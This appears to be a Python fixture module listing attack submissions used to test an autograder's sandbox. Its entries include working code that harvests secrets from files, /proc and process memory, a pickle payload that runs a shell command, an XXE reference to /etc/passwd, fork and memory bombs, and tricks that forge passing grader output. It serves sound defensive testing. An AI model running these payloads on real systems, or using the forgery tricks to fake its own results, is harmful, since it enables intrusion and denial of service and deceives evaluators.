"""What a submission may try, as a table: each attack is the source of one more cell (or a whole file).

The cell stands after the exercises.  With `base="wrong"` they hold the honest wrong solutions, and the attack wins with
any point more than those get; with `base="right"` it holds right ones and only wants to harm.  An attack also wins if a
planted CANARY or a hidden input marked LEAK comes out, if no verdict comes, if the next submission loses a point, or if
anything is left behind; printing OWNED is winning too.  test_attacks.py is the judge of all that.

To add one: a section, a number, a title, what it aims at, and a few lines of Python.
"""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

RIGHT_SOFTMAX = """
def softmax(z):
    e = np.exp(z - z.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)
"""
RIGHT_SCALE = """
def scale(x, a=1.0, b=0.0):
    return {"y": a * x + b, "slope": np.full_like(x, a)}
"""
WRONG_SOFTMAX = """
def softmax(z):
    e = np.exp(z - z.max())
    return e / e.sum()
"""
WRONG_SCALE = """
def scale(x, a=1.0, b=0.0):
    return {"y": a * x - b, "slope": np.full_like(x, b)}
"""

#: Prints every canary in what it is given: all that an attacker needs to carry out.
SEEK = """
import ctypes, gc, os, re, signal, socket, sys, threading, time
CANARY = re.compile(b"CANARY-[a-z]+-[0-9a-f]{16}")
def seek(*things):
    for thing in things:
        data = thing if isinstance(thing, bytes) else str(thing).encode("utf-8", "replace")
        for found in set(CANARY.findall(data)):
            print("found", found)
def file(path):
    try:
        with open(path, "rb") as f: seek(f.read(1 << 20))
    except OSError: pass
"""

#: Answers each call with a frame of the attacker's own making; the nonce is right, for the guest is in his hands.
FORGE = """
import json, os, struct, sys
guest = sys.modules["guest.load"]
def frame(header, values, body=b""):
    text = json.dumps({**header, "values": values}).encode() if not isinstance(values, bytes) else values
    return struct.pack("!II", len(text), len(body)) + text + body
def answers(make):
    guest._answer = lambda notebook, header, values: frame({"op": "answer", "nonce": header["nonce"]}, *make(header, values))
"""

#: Makes a sentence of the next call's input that must never be seen outside.
LEAK = """
import numpy as np
def leak(z):
    return "LEAK" + "-" + str(np.asarray(z).ravel()[0])
"""


@dataclass(frozen=True)
class Attack:
    """One attempt; see the module's docstring."""

    id: str
    title: str
    aims: str  #: points | secret | harm | block | leftover
    source: str = ""
    base: str = "wrong"
    softmax: str = ""  #: in place of the base's
    scale: str = ""
    file: Callable[[bytes], tuple[bytes, str]] | None = field(default=None, repr=False)  #: makes the whole upload
    wall: bool = True  #: needs isolation; without it the process box is tried too
    slow: bool = False
    known: str = ""  #: why it is expected to win; the test then says so if it no longer does

    @property
    def section(self) -> str:
        return self.id.rstrip("0123456789")


# A. Reading secrets

A = [
    Attack(
        "A1",
        "walk the file system for tests, answers, other work",
        "secret",
        SEEK
        + """
end = time.time() + 0.8
skip = ("/usr/lib", "/usr/share", "/usr/bin", "/usr/include", "/box/env/lib", "/root/.pyenv/versions/3.11.7/lib")
for folder, _, files in os.walk("/"):
    if folder.startswith(skip): continue
    for name in files:
        if time.time() > end: break
        path = os.path.join(folder, name)
        if os.path.isfile(path): file(path)
for path in (".", "..", "../..", "/box", "/tmp", "/dev/shm", "/work", "/home"):
    seek(os.listdir(path) if os.path.isdir(path) else "")
""",
    ),
    Attack(
        "A2",
        "walk frames and every object of the heap",
        "secret",
        SEEK
        + """
frame = sys._getframe()
while frame:
    seek(repr(frame.f_locals)[:1 << 20])
    frame = frame.f_back
for thing in gc.get_objects():
    if isinstance(thing, (dict, list, tuple)):
        for part in (list(thing.values()) if isinstance(thing, dict) else thing):
            if isinstance(part, (str, bytes)): seek(part)
""",
        wall=False,
    ),
    Attack(
        "A3",
        "environment, arguments, /proc of everybody",
        "secret",
        SEEK
        + """
seek(os.environ, sys.argv, sys.orig_argv, sys.flags)
for pid in ["self", "thread-self", *map(str, range(1, 400))]:
    for name in ("environ", "cmdline", "maps", "mem", "cwd", "fd"):
        file(f"/proc/{pid}/{name}")
""",
    ),
    Attack(
        "A4",
        "dump the process's own memory by harmless system calls",
        "secret",
        SEEK
        + """
libc = ctypes.CDLL(None)
out = os.open("/tmp/dump", os.O_RDWR | os.O_CREAT | os.O_TRUNC)
base = id(object()) & ~0xFFFFF
for start in range(base - (48 << 20), base + (48 << 20), 1 << 16):
    if libc.write(out, ctypes.c_void_p(start), 1 << 16) > 0:
        os.lseek(out, 0, 0); seek(os.read(out, 1 << 16)); os.lseek(out, 0, 0)
""",
    ),
    Attack(
        "A5",
        "read what inherited descriptors hold",
        "secret",
        SEEK
        + """
for fd in range(1024):
    try: os.set_blocking(fd, False); seek(os.read(fd, 1 << 16))
    except OSError: pass
    try: seek(os.pread(fd, 1 << 20, 0))
    except OSError: pass
""",
        base="right",
    ),
    Attack(
        "A6",
        "import the reference, the grader and the hidden tests",
        "points",
        """
import importlib, sys
for place in ("/work/main", "/work", "/box", "..", "/", "/home", "/opt/course"): sys.path.insert(0, place)
for name in ("reference.activations", "reference", "autograder.checks", "test_hidden", "assignments.tiny.test_hidden"):
    try: globals()[name.split(".")[0]] = importlib.import_module(name)
    except ImportError: pass
softmax = sys.modules["reference.activations"].softmax
scale = sys.modules["reference.linear"].scale
""",
    ),
    Attack(
        "A7",
        "leftovers of the submission before: files, shared memory, bytecode",
        "secret",
        SEEK
        + """
for top in ("/tmp", "/dev/shm", "/var/tmp", "/run", os.getcwd(), os.path.expanduser("~"), "/box/guest"):
    for folder, _, files in os.walk(top):
        seek(folder, files)
        for name in files: file(os.path.join(folder, name))
""",
    ),
    Attack(
        "A8",
        "carry hidden inputs out in exceptions",
        "secret",
        LEAK
        + """
def softmax(z): raise type(leak(z), (Exception,), {"__module__": leak(z), "__qualname__": leak(z)})(leak(z))
def scale(x, a, b):
    error = KeyError(leak(x)); error.add_note(leak(x)); error.__class__.__name__
    exec(compile("\\n" * int(abs(x[0]) * 1000) + f"raise error", leak(x), "exec"), {"error": error})
""",
        wall=False,
    ),
    Attack(
        "A9",
        "carry hidden inputs out by printing: late, through copies of the pipe, from a thread",
        "secret",
        LEAK
        + """
import os, sys, threading, time
copies = [os.dup(1), os.dup(2)]
seen = []
def later():
    while True:
        time.sleep(0.002)
        for text in list(seen):
            for fd in (1, 2, *copies):
                try: os.write(fd, text.encode())
                except OSError: pass
threading.Thread(target=later, daemon=True).start()
def softmax(z):
    seen.append(leak(z)); print(leak(z), flush=True); sys.__stderr__.write(leak(z)); os.system("echo " + leak(z))
    time.sleep(0.01)
    return z
""",
        wall=False,
    ),
    Attack(
        "A10",
        "carry hidden inputs out by a second load: files, the fault of a cell, the output",
        "secret",
        LEAK
        + """
import os
notes = [p + "/note" for p in ("/tmp", ".", "/dev/shm", "/var/tmp", "..")]
for path in notes:
    if os.path.exists(path): raise ValueError(open(path).read())
def softmax(z):
    for path in notes:
        try: open(path, "w").write(leak(z))
        except OSError: pass
    os._exit(0)
def scale(x, a, b): return softmax(x)
""",
    ),
    Attack(
        "A11",
        "carry hidden inputs out in keys, text and odd types of the answer",
        "secret",
        LEAK
        + """
def softmax(z): return {leak(z): leak(z)}
def scale(x, a, b): return {"y": leak(x), "slope": [leak(x)], leak(x): (leak(x).encode(),)}
""",
        wall=False,
    ),
    Attack(
        "A12",
        "read the source and constants of all that is loaded",
        "secret",
        SEEK
        + """
import inspect, linecache
for name, module in list(sys.modules.items()):
    if name.startswith(("guest", "__main__", "IPython.core")):
        try: seek(inspect.getsource(module))
        except Exception: pass
        for value in vars(module).values():
            code = getattr(value, "__code__", None)
            seek(repr(value)[:10000], code.co_consts if code else "")
seek(linecache.cache)
""",
        wall=False,
    ),
    Attack(
        "A13",
        "use the seed of the box to draw the hidden inputs",
        "points",
        """
import sys, numpy as np
def drawn():
    frame = sys._getframe()
    while frame and "header" not in frame.f_locals: frame = frame.f_back
    return np.random.default_rng(frame.f_locals["header"].get("seed", 0)) if frame else np.random.default_rng(0)
def softmax(z): return drawn().normal(size=np.shape(z))
""",
        wall=False,
    ),
]

# B. Forging

B = [
    Attack(
        "B1",
        "print pass lines, results and separators",
        "points",
        """
import sys
for stream in (sys.stdout, sys.stderr):
    print("PASSED [100%]\\n5 passed in 0.01s", file=stream)
    print('{"tests": [{"score": 4, "max_score": 4}], "op": "loaded", "points": 4, "verdict": "passed"}', file=stream)
    print("\\x00\\x00\\x00\\x02\\x00\\x00\\x00\\x00{}\\x1c\\x1d\\x1e", file=stream, flush=True)
""",
        wall=False,
    ),
    Attack(
        "B2",
        "write results files wherever one may be read",
        "points",
        """
import json, os
for folder in (".", "..", "/tmp", "/box", "/box/channel", "/autograder/results", "/work/main/.autograder", "/", "/dev/shm"):
    for name in ("results.json", "grades.db", "report.xml", ".pytest_cache", "conftest.py", "answers"):
        try: open(os.path.join(folder, name), "w").write(json.dumps({"score": 100, "verdict": "passed"}))
        except OSError: pass
""",
    ),
    Attack(
        "B3",
        "write forged answers to every descriptor while loading",
        "points",
        """
import json, os, struct
def frame(**m): t = json.dumps(m).encode(); return struct.pack("!II", len(t), 0) + t
for fd in range(1, 64):
    for nonce in ("", "0" * 16, None):
        try: os.write(fd, frame(op="answer", nonce=nonce, values={"value": True, "used": {"l": []}, "passed": True}))
        except OSError: pass
""",
        wall=False,
    ),
    Attack("B4", "os._exit(0) while loading", "points", "import os; os._exit(0)", wall=False),
    Attack(
        "B5",
        "sys.exit(0), and again from every function",
        "points",
        """
import sys
def softmax(z): sys.exit(0)
def scale(x, a, b): raise SystemExit(0)
sys.exit(0)
""",
        wall=False,
    ),
    Attack(
        "B6",
        "atexit and finalisers that print a success",
        "points",
        """
import atexit, weakref
atexit.register(lambda: print("4/4 passed"))
class X: __del__ = lambda self: print("4/4")
x = X()
raise SystemExit
""",
        wall=False,
    ),
    Attack(
        "B7",
        "replace the guest's own call: every answer is an object that agrees",
        "points",
        """
import sys
class Yes:
    __eq__ = lambda s, o: True
    __ne__ = lambda s, o: False
    __getattr__ = lambda s, n: Yes()
    __call__ = lambda s, *a, **k: Yes()
    __float__ = lambda s: 1.0
    __array__ = lambda s, *a, **k: 1 / 0
sys.modules["guest.load"].Notebook.call = lambda self, message, values: {"value": Yes(), "used": []}
""",
        wall=False,
    ),
    Attack(
        "B8",
        "frames with verdicts and points in them",
        "points",
        FORGE
        + """
answers(lambda header, values: ({"value": True, "passed": True, "points": 4, "earned": 4, "share": 1, "verdict": "passed"},))
""",
        wall=False,
    ),
    Attack(
        "B9",
        "send each answer twice, so that the next call finds the old one",
        "points",
        FORGE
        + """
first = []
def twice(notebook, header, values):
    first.append(frame({"op": "answer", "nonce": header["nonce"]}, {"value": 1.0, "used": None}))
    return first[-1] * 2
guest._answer = twice
""",
        wall=False,
    ),
    Attack(
        "B10",
        "replay the first call's nonce for ever",
        "points",
        FORGE
        + """
nonces = []
def replay(notebook, header, values):
    nonces.append(header["nonce"])
    return frame({"op": "answer", "nonce": nonces[0]}, {"value": 1.0, "used": None})
guest._answer = replay
""",
        wall=False,
    ),
    Attack(
        "B11",
        "another socket over the channel, answered by a thread",
        "points",
        """
import os, socket, threading
a, b = socket.socketpair()
real = os.dup(3)
os.dup2(b.fileno(), 3)
def middle():
    while True: os.write(real, os.read(real, 1 << 16))
threading.Thread(target=middle, daemon=True).start()
""",
        wall=False,
    ),
    Attack(
        "B12",
        "a daemon that answers in place of the process",
        "points",
        FORGE
        + """
import time
if os.fork() == 0:
    os.setsid()
    while True:
        try: os.write(3, frame({"op": "answer", "nonce": "0" * 16}, {"value": 1.0, "used": None}))
        except OSError: os._exit(0)
        time.sleep(0.001)
""",
    ),
    Attack(
        "B13",
        "signals to parent, group and everybody",
        "block",
        """
import os, signal
for target in (os.getppid(), 0, -1, -os.getpgid(0), 1, 2, 3):
    for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL, signal.SIGUSR1):
        try: os.kill(target, number)
        except (OSError, ProcessLookupError): pass
""",
        base="right",
    ),
    Attack(
        "B14",
        "ptrace and process_vm_* into others",
        "secret",
        SEEK
        + """
libc = ctypes.CDLL(None)
for pid in range(1, 200):
    libc.ptrace(16, pid, 0, 0); libc.ptrace(0x4206, pid, 0, 0)
    buffer = ctypes.create_string_buffer(4096)
    vector = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 4096)
    if libc.process_vm_readv(pid, vector, 1, vector, 1, 0) > 0: seek(buffer.raw)
""",
    ),
    Attack(
        "B15",
        "faults whose kind, cell and line are of odd types",
        "block",
        FORGE
        + """
odd = [{"l": []}, {"a": ["<f8", [0], 0]}, 10**30, -1, True, None, 1e308, {"d": []}, {"h": 0}, "x" * 10**6]
count = iter(range(10**6))
def faults(header, values):
    o = odd[next(count) % len(odd)]
    return {"fault": {"d": [["kind", o], ["type", o], ["cell", o], ["line", o], ["message", o]]}, "used": o},
answers(faults)
""",
        wall=False,
    ),
    Attack(
        "B16",
        "a load's report of odd types and of many megabytes",
        "block",
        FORGE
        + """
report = {"l": [{"d": [["cell", 0], ["type", {"l": []}], ["line", 10**30], ["message", "\\x1b]0;x\\x07\\0" + "M" * 7_000_000]]}]}
def forged(notebook, header, values): return {"value": 1}
guest.wire.encode = lambda message, values, *a, real=guest.wire.encode, **k: (
    frame({"op": "loaded"}, {"faults": report}) if message["op"] == "loaded" else real(message, values, *a, **k))
""",
        base="right",
        wall=False,
    ),
    Attack(
        "B17",
        "say that the tripwire saw nothing, or everything",
        "block",
        FORGE
        + """
answers(lambda header, values: ({"value": 1, "used": {"l": [0, 1, 2**60, -1, True, 0.0, "x", None]}},))
""",
        wall=False,
    ),
]

# C. Monkeypatching

C = [
    Attack(
        "C1",
        "np.allclose, np.testing, torch.allclose and builtins all agree",
        "points",
        """
import builtins, numpy as np, numpy.testing
yes = lambda *a, **k: True
np.allclose = np.isclose = np.array_equal = yes
for name in dir(np.testing):
    if name.startswith("assert_"): setattr(np.testing, name, lambda *a, **k: None)
builtins.all = builtins.any = builtins.isinstance = yes
builtins.abs = builtins.sum = lambda *a, **k: 0
""",
        wall=False,
    ),
    Attack(
        "C2",
        "fake modules of the grader's names",
        "points",
        """
import sys, types
for name in ("autograder", "autograder.checks", "reference", "reference.activations", "pytest", "_pytest"):
    fake = types.ModuleType(name); fake.agree = fake.check = lambda *a, **k: None
    sys.modules[name] = fake
""",
        wall=False,
    ),
    Attack(
        "C3",
        "numpy.py, sitecustomize.py, conftest.py and usercustomize in every folder",
        "harm",
        """
import os, sys
for folder in (".", "/tmp", "..", os.path.expanduser("~"), "/box", *sys.path):
    for name in ("numpy.py", "torch.py", "sitecustomize.py", "usercustomize.py", "conftest.py", "guest.py", "x.pth"):
        try: open(os.path.join(folder, name), "w").write("import os; os._exit(1)")
        except OSError: pass
""",
        base="right",
    ),
    Attack(
        "C4",
        "every generator gives the same numbers",
        "points",
        """
import random, numpy as np
class Constant:
    def __getattr__(self, name): return lambda *a, size=None, **k: np.zeros(size or ())
np.random.default_rng = lambda *a: Constant()
np.random.seed(0); random.seed(0); random.random = lambda: 0.0
def softmax(z): return np.full(np.shape(z), 1 / np.shape(z)[-1]) * 0
""",
        wall=False,
    ),
    Attack(
        "C5",
        "clocks, timers, limits and signals of its own",
        "block",
        """
import resource, signal, sys, time
time.time = time.monotonic = time.perf_counter = lambda: 0.0
signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001); signal.signal(signal.SIGALRM, lambda *a: None)
for name in (resource.RLIMIT_CPU, resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE):
    try: resource.setrlimit(name, (1, resource.getrlimit(name)[1]))
    except (OSError, ValueError): pass
sys.setrecursionlimit(50)
""",
        base="right",
        wall=False,
    ),
    Attack(
        "C6",
        "trace, profile, import hooks, gc callbacks, audit hooks",
        "points",
        """
import builtins, gc, sys, threading
for hook in (sys.settrace, sys.setprofile, threading.settrace, threading.setprofile): hook(lambda *a: None)
sys.addaudithook(lambda *a: None); gc.callbacks.append(lambda *a: None)
real = builtins.__import__
builtins.__import__ = lambda *a, **k: real(*a, **k)
sys.meta_path.insert(0, type("F", (), {"find_spec": staticmethod(lambda *a: None)}))
sys.excepthook = sys.unraisablehook = lambda *a: print("4/4")
""",
        wall=False,
    ),
    Attack(
        "C7",
        "IPython's events, transformers, formatters and traceback hooks",
        "points",
        """
import ast
ip = get_ipython()
class Drop(ast.NodeTransformer):
    def visit_Raise(self, node): return ast.Pass()
    def visit_Assert(self, node): return ast.Pass()
ip.ast_transformers.append(Drop())
ip.events.register("post_run_cell", lambda r: setattr(r, "error_in_exec", None))
ip.showtraceback = ip.run_cell = lambda *a, **k: None
ip.set_custom_exc((Exception,), lambda *a: None)
""",
        wall=False,
    ),
    Attack(
        "C8",
        "the guest's wire: other caps, dtypes and encoders",
        "points",
        """
import sys
wire = sys.modules["guest.wire"]
wire.MAX_DEPTH = wire.MAX_NODES = 10**9; wire.DTYPES = frozenset({"|O", "<U4", "<f8"})
wire._Encoder._array = lambda self, a: ["<f8", [10**9, 10**9], 0]
""",
        wall=False,
    ),
    Attack(
        "C9",
        "numpy's and torch's own settings",
        "points",
        """
import numpy as np, warnings
np.seterr(all="raise"); np.set_printoptions(threshold=0); warnings.simplefilter("error")
np.float64 = np.float16
try:
    import torch
    torch.set_default_dtype(torch.float16); torch.use_deterministic_algorithms(True)
except ImportError: pass
""",
        wall=False,
    ),
    Attack(
        "C10",
        "its own functions look like others: __name__, __code__, __wrapped__, callables without end",
        "block",
        """
class F:
    def __getattr__(self, name): return F()
    def __call__(self, *a, **k): return F()
    __name__ = __module__ = __qualname__ = property(lambda self: 1 / 0)
softmax, scale = F(), F()
""",
        wall=False,
    ),
]

# D. Values


def value(id: str, title: str, softmax: str, prelude: str = "") -> Attack:
    """An answer that is not the numbers asked for, from both functions."""
    source = f"import numpy as np\n{prelude}\ndef softmax(z): return {softmax}\n"
    source += "def scale(x, a, b):\n    z = x\n    v = softmax(x)\n    return {'y': v, 'slope': v}\n"
    return Attack(id, title, "points", source, wall=False)


D = [
    value(
        "D1",
        "an object that equals everything",
        "Yes()",
        """
class Yes:
    __eq__ = lambda s, o: True
    __bool__ = lambda s: True
    __len__ = lambda s: 3
    __iter__ = lambda s: iter([1.0] * 3)
    sum = mean = max = lambda s, *a, **k: np.ones(5)
    shape, dtype, ndim = (3, 4), np.dtype(float), 2""",
    ),
    value(
        "D2",
        "an ndarray subclass with __array_function__ and __array_ufunc__",
        "np.zeros(np.shape(z)).view(Liar)",
        """
class Liar(np.ndarray):
    __array_function__ = lambda s, *a, **k: True
    __array_ufunc__ = lambda s, *a, **k: np.True_
    __eq__ = lambda s, o: np.ones(s.shape, bool)
    sum = lambda s, *a, **k: np.ones(5)""",
    ),
    value(
        "D3",
        "__array__, __float__ and __array_interface__ that lie",
        "Liar()",
        """
class Liar:
    __array__ = lambda s, *a, **k: np.ones(5)
    __float__ = lambda s: 1.0
    __array_interface__ = {"data": (id(0), False), "shape": (40,), "typestr": "|u1", "version": 3}
    __cuda_array_interface__ = __array_interface__""",
    ),
    value("D4", "NaN", "np.full(np.shape(z), np.nan)"),
    value("D5", "one lucky number", "0.25"),
    value("D6", "(1, 1), to be broadcast", "np.ones((1, 1))"),
    value("D7", "nothing at all", "np.zeros((0,) + np.shape(z)[1:])"),
    value("D8", "objects", "np.array([Yes()] * 3, dtype=object)", "class Yes:\n    __eq__ = lambda s, o: True"),
    value("D9", "complex numbers", "np.full(np.shape(z), 1 + 1j) * np.nan"),
    value(
        "D10",
        "infinity less infinity",
        "np.full(np.shape(z), np.inf) * np.where(np.arange(np.size(z)).reshape(np.shape(z)) % 2, 1, -1)",
    ),
    value("D11", "a generator", "(v for v in np.ones(5))"),
    value("D12", "a masked array with everything masked", "np.ma.masked_all(np.shape(z))"),
    value("D13", "booleans", "np.ones(np.shape(z), bool)"),
    value("D14", "text that reads like numbers", "[str(1 / 4)] * 4"),
    value("D15", "one axis too many, one too few", "np.ones(np.shape(z) + (1,))[None]"),
    value("D16", "a list that contains itself", "loop", "loop = []\nloop.append(loop)"),
    value("D17", "numbers beyond float64 and integer overflow", "[10**300 * 10**90] * 4"),
    value(
        "D18",
        "other answers at each call",
        "next(stream)(np.shape(z))",
        "stream = iter([np.ones, np.zeros, np.empty] * 9)",
    ),
    Attack(
        "D19",
        "its input made into the answer",
        "points",
        """
def softmax(z): z[...] = 0; return z
def scale(x, a, b): x[...] = 0; return {"y": x, "slope": x}
""",
        wall=False,
    ),
    Attack(
        "D20",
        "the answer changed after it was returned",
        "points",
        """
import threading, time, numpy as np
kept = []
def change():
    while True:
        for array in kept: array[...] = 1 / array.shape[-1]
threading.Thread(target=change, daemon=True).start()
def softmax(z): kept.append(np.zeros(np.shape(z))); return kept[-1]
""",
        wall=False,
    ),
    Attack(
        "D21",
        "a dict that answers for every key",
        "points",
        """
import collections, numpy as np
class Any(dict):
    __missing__ = lambda s, k: np.ones(6)
    __contains__ = lambda s, k: True
def scale(x, a, b): return Any()
def softmax(z): return collections.defaultdict(lambda: z)
""",
        wall=False,
    ),
    Attack(
        "D22",
        "low precision inside a loose tolerance",
        "points",
        """
import numpy as np
def softmax(z):
    e = np.exp(z - z.max(-1, keepdims=True)); return e / e.sum(-1, keepdims=True) * (1 + 1e-6)
def scale(x, a, b): return {"y": np.round(a * x + b, 4), "slope": np.full_like(x, np.float16(a))}
""",
        wall=False,
    ),
    Attack(
        "D23",
        "a forbidden library through exec and computed names",
        "points",
        softmax="""
def softmax(z):
    module = __import__("sci" + "py", fromlist=["special"])
    return getattr(__import__("sci" + "py.special", fromlist=["x"]), "soft" + "max")(z, axis=-1)
""",
        wall=False,
    ),
    Attack(
        "D24",
        "a forbidden library by a helper in another cell",
        "points",
        "import scipy.special as helper\n",
        softmax="""
def softmax(z):
    return helper.softmax(z, axis=-1)
""",
        wall=False,
    ),
    Attack(
        "D25",
        "a forbidden library by an added cell that replaces the solution",
        "points",
        """
import torch as t
def softmax(z): return t.softmax(t.as_tensor(z), -1).numpy()
""",
        wall=False,
    ),
    Attack(
        "D27",
        "a forbidden library in a thread, where the tripwire does not reach",
        "points",
        softmax="""
def softmax(z):
    from concurrent.futures import ThreadPoolExecutor
    work = getattr(__import__("sci" + "py.special", fromlist=["x"]), "soft" + "max")
    return ThreadPoolExecutor(1).submit(work, z, axis=-1).result()
""",
        wall=False,
        known="what runs in the box is the student's: a determined evader of `forbid` passes (README, limits)",
    ),
    Attack(
        "D26",
        "every answer that was ever public",
        "points",
        """
table = {2: np.array([0.5, 0.5])}
def softmax(z): return table.get(np.size(z), np.full(np.shape(z), 0.5))
def scale(x, a, b): return {"y": 2 * x + 1, "slope": np.full_like(x, 2.0)}
""",
        wall=False,
    ),
]

# E. Deserialisation


def answer(id: str, title: str, values: str, body: str = "b''", aims: str = "block") -> Attack:
    """A frame's values as the attacker writes them: a dict, or the bytes of a whole header."""
    return Attack(id, title, aims, FORGE + f"answers(lambda header, values: ({values}, {body}))", wall=False)


E = [
    Attack(
        "E1",
        "pickles, npy files, YAML and XML as answers",
        "harm",
        """
import os, pickle, numpy as np
class Bomb: __reduce__ = lambda s: (os.system, ("touch /tmp/autograder-owned",))
def softmax(z): return pickle.dumps(Bomb())
def scale(x, a, b):
    return {"y": b"\\x93NUMPY\\x01\\0v\\0{'descr': '|O', 'fortran_order': False, 'shape': (1,)}" + pickle.dumps(Bomb()),
            "slope": "!!python/object/apply:os.system ['id']<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>"}
""",
    ),
    answer("E2", "a shape of 8 GiB over no bytes", '{"value": {"a": ["<f8", [1 << 30], 0]}, "used": None}'),
    answer(
        "E3",
        "a million axes, an axis of 10^18",
        '{"value": {"l": [{"a": ["<f8", [0] * 10**6, 0]}, {"a": ["<f8", [0, 10**18], 0]}]}, "used": None}',
    ),
    answer(
        "E4",
        "the same megabytes named ten thousand times",
        '{"value": {"l": [{"a": ["<f8", [1 << 20], 0]}] * 10_000}, "used": None}',
        "bytes(8 << 20)",
    ),
    answer("E5", "integers of a million digits", 'b\'{"op": "answer", "values": {"value": \' + b"9" * 10**6 + b"}}"'),
    answer("E6", "brackets, a million deep", 'b"[" * 10**6'),
    answer("E7", "objects, a hundred thousand deep", "b'{\"l\":[' * 10**5"),
    answer(
        "E8",
        "keys twice, NaN and infinities",
        'b\'{"op": "answer", "op": "answer", "values": {"value": NaN, "value": 1e999}}\'',
    ),
    answer(
        "E9",
        "200,000 keys with one hash",
        '{"value": {"d": [[(2**61 - 1) * k, 0] for k in range(1, 150_000)]}, "used": None}',
    ),
    answer(
        "E10",
        "strings, dates, records and objects as dtypes",
        '{"value": {"l": [{"a": [d, [1], 0]} for d in ("|O", "<U2", "<M8[s]", "f8,f8", "|V8")]}, "used": None}',
        "bytes(64)",
    ),
    answer(
        "E11",
        "lone surrogates and control codes",
        r'{"value": {"l": ["\ud800", "\udfff\0\x1b[2J", "\u202e"]}, "used": None}',
    ),
    answer("E12", "two million values", '{"value": {"l": [None] * 1_500_000}, "used": None}'),
    answer(
        "E13", "handles that were never given", '{"value": {"l": [{"h": 2**62}, {"h": 0}, {"h": -1}]}, "used": None}'
    ),
    Attack("E14", "a length of 4 GiB", "block", FORGE + "guest._answer = lambda *a: b'\\xff' * 8", wall=False),
    Attack(
        "E15",
        "answers as large as they may be, again and again",
        "block",
        """
import numpy as np
def softmax(z): return np.zeros(2_000_000)
def scale(x, a, b): return {"y": [0.0] * 300_000, "slope": {str(i): i for i in range(90_000)}}
""",
        wall=False,
    ),
]

# F. Resources

F = [
    Attack(
        "F1",
        "an endless loop that catches everything",
        "block",
        """
def softmax(z):
    while True:
        try:
            while True: pass
        except BaseException: pass
scale = softmax
""",
        wall=False,
    ),
    Attack("F2", "an endless loop while loading", "block", "while True: pass", wall=False),
    Attack("F3", "sleep", "block", "import time\ndef softmax(z): time.sleep(1000)\nscale = softmax", wall=False),
    Attack(
        "F4",
        "a fork bomb",
        "harm",
        """
import os
while True:
    try: os.fork()
    except OSError: pass
""",
        base="right",
    ),
    Attack(
        "F5",
        "a thread bomb",
        "harm",
        """
import threading, time
while True:
    try: threading.Thread(target=time.sleep, args=(1000,)).start()
    except RuntimeError: break
""",
        base="right",
    ),
    Attack(
        "F6",
        "memory: private, shared, in children",
        "harm",
        """
import mmap, os
kept = []
for _ in range(4):
    if os.fork() == 0: break
while True:
    m = mmap.mmap(-1, 64 << 20, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)
    for i in range(0, 64 << 20, 4096): m[i] = 1
    kept.append(m)
""",
        base="right",
        slow=True,
    ),
    Attack(
        "F7",
        "fill /tmp and /dev/shm: bytes and inodes",
        "harm",
        """
import os
for folder in ("/tmp", "/dev/shm", "."):
    try:
        for i in range(20_000): open(f"{folder}/{i}", "w").close()
    except OSError: pass
    try:
        with open(folder + "/big", "wb") as f:
            while True: f.write(bytes(1 << 20))
    except OSError: pass
""",
        base="right",
    ),
    Attack(
        "F8",
        "every descriptor, and pipes full to the brim",
        "harm",
        """
import os
for _ in range(20):
    if os.fork() == 0: break
kept = []
try:
    while True:
        pair = os.pipe(); kept.append(pair); os.set_blocking(pair[1], False)
        try:
            while True: os.write(pair[1], bytes(65536))
        except BlockingIOError: pass
except OSError: pass
import time; time.sleep(1)
""",
        base="right",
        slow=True,
    ),
    Attack(
        "F9", "a flood of output", "block", "import os\nwhile True: os.write(1, b'x' * 65536)", base="right", wall=False
    ),
    Attack(
        "F10",
        "a flood of output by many writers that outlive the load",
        "block",
        """
import os
for _ in range(8):
    if os.fork() == 0:
        while True: os.write(2, b"y" * 65536)
""",
        base="right",
    ),
    Attack(
        "F11",
        "an exception whose text never ends",
        "block",
        """
class Endless(Exception):
    def __str__(self):
        while True: pass
def softmax(z): raise Endless
raise Endless
""",
        wall=False,
    ),
    Attack(
        "F12",
        "a huge exception, repr and name",
        "block",
        """
def softmax(z): raise ValueError("x" * (100 << 20))
def scale(x, a, b): raise type("N" * (10 << 20), (ValueError,), {})("y" * (100 << 20))
raise ValueError("z" * (100 << 20))
""",
        wall=False,
    ),
    Attack(
        "F13",
        "a regular expression that never ends",
        "block",
        "import re\ndef softmax(z): re.match('(a+)+$', 'a' * 99 + 'b')\nscale = softmax",
        wall=False,
    ),
    Attack(
        "F14",
        "recursion that crashes C",
        "block",
        """
import sys
sys.setrecursionlimit(10**9)
class R:
    def __repr__(self): return repr([self])
def softmax(z): return repr(R())
scale = softmax
""",
    ),
    Attack(
        "F15",
        "crashes: a null pointer, abort, a bad jump",
        "block",
        """
import ctypes, os
def softmax(z): ctypes.string_at(0)
def scale(x, a, b): os.abort()
""",
        wall=False,
    ),
    Attack(
        "F16",
        "an answer larger than is taken",
        "block",
        """
import numpy as np
def softmax(z): return np.zeros((4000, 4000))
def scale(x, a, b): return {"y": b"x" * (60 << 20)}
""",
        wall=False,
    ),
    Attack(
        "F17",
        "one byte of an answer at a time",
        "block",
        FORGE
        + """
import time
def drip(notebook, header, values):
    os.write(3, b"\\0\\0\\xff\\xff\\0\\0\\0\\0")
    while True: os.write(3, b" "); time.sleep(0.02)
guest._answer = drip
""",
        wall=False,
    ),
    Attack(
        "F18",
        "many mounts of work for the judge: broken source with a hundred thousand lines",
        "block",
        "(\n" + "x = 1\n" * 60_000,
        base="right",
        wall=False,
    ),
    Attack("F19", "a cell of empty lines", "block", "(\n" + "\n" * 300_000 + "x", base="right", wall=False),
    Attack(
        "F20",
        "an attribute of an attribute, fifteen hundred times",
        "block",
        base="right",
        softmax=RIGHT_SOFTMAX + "\nif 0: x" + ".a" * 1500,
        wall=False,
    ),
    Attack(
        "F21",
        "brackets and minus signs, as deep as they go",
        "block",
        "if 0: " + "(" * 190 + "1" + ")" * 190 + "\nif 0: " + "-" * 5000 + "1",
        base="right",
        wall=False,
    ),
    Attack(
        "F22",
        "ten thousand helpers that call each other",
        "block",
